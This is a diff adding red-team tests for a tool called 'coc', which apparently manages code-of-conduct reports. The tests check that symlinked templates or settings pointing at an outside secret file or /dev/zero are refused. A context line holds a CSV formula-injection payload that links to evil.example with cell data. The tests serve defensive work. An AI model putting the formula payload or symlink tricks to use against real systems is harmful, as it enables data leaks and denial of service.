@@ -1,5 +1,7 @@
 /** Red-team attacks on coc's intake (a hostile e-mail) and its public text (the register as CSV). */
-import { execFileSync } from "node:child_process";
+import { execFileSync, spawnSync } from "node:child_process";
+import { rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
 import { afterEach, beforeEach, describe, expect, it } from "vitest";
 import { World, hasAgeCli, teamRepo, type Person } from "../helpers/env.js";
 
@@ -102,5 +104,54 @@ consent: { contact_reported: yes }
     expect(rows).toHaveLength(2);
     expect(rows[1]!.slice(0, 3)).toEqual([`'=HYPERLINK("https://evil.example/?"&A3,"Pat")`, "'+1 555 0100", "'@pat -2+3"]);
     for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
+
+describe("attacks through a pushed template or settings file that is a symbolic link", () => {
+  const commitAs = (paths: string[]) => {
+    const g = ["-c", "user.name=m", "-c", "user.email=m@x", "-c", "core.hooksPath=/dev/null"];
+    world.git(repo, [...g, "add", ...paths]);
+    world.git(repo, [...g, "commit", "-qm", "templates"]);
+  };
+
+  it("a template linked to a file outside the repository is never read into public text, even once confirmed", async () => {
+    const secret = join(world.root, "secret.txt");
+    writeFileSync(secret, "OUTSIDE-FILE-MARKER-7731\n");
+    rmSync(join(repo, "templates", "transparency.md.hbs"), { force: true });
+    symlinkSync(secret, join(repo, "templates", "transparency.md.hbs"));
+    commitAs(["templates/transparency.md.hbs"]);
+    const trusted = await world.run(["trust", "--yes"], { as: alice, cwd: repo });
+    expect(trusted.code, trusted.stderr).toBe(0);
+    const r = await world.run(["transparency"], { as: alice, cwd: repo });
+    expect(r.stdout + r.stderr).not.toContain("OUTSIDE-FILE-MARKER-7731");
+    expect(r.code).toBe(1);
+    expect(r.stderr).toContain("transparency.md.hbs: a symbolic link");
+  });
+
+  it("a template or a settings file linked to /dev/zero gives one line, never a command that reads forever", async () => {
+    symlinkSync("/dev/zero", join(repo, "templates", "zz.hbs"));
+    commitAs(["templates/zz.hbs"]);
+    // Run as a process of its own with a memory cap: before, every command read /dev/zero until it ran out of memory.
+    const coc = (args: string[]) =>
+      spawnSync("bash", ["-c", 'ulimit -v 4000000; exec "$0" "$@"', process.execPath, join(process.cwd(), "bin", "coc.js"), ...args], {
+        cwd: repo,
+        env: { ...world.env, COC_IDENTITY: alice.identityFile },
+        input: "received_at: 2026-06-01T09:00:00Z\nchannel: email\nreporter: { name: Robin }\nincident: { summary: s, description: d }\n",
+        encoding: "utf8",
+        timeout: 60_000,
+      });
+    const listed = coc(["list"]);
+    expect(listed.status, listed.stderr).toBe(0);
+    const made = coc(["new-report", "--from", "-"]);
+    expect(made.status, made.stderr).toBe(0);
+    const trusted = coc(["trust", "--yes"]);
+    expect(trusted.status, trusted.stderr).toBe(0);
+    rmSync(join(repo, "templates", "zz.hbs"));
+    rmSync(join(repo, ".coc", "team.yaml"));
+    symlinkSync("/dev/zero", join(repo, ".coc", "team.yaml"));
+    const config = coc(["list"]);
+    expect(config.status, config.stderr).toBe(1);
+    expect(config.stderr.trim().split("\n"), config.stderr).toHaveLength(1);
+    expect(config.stderr).toContain("symbolic link");
   });
 });
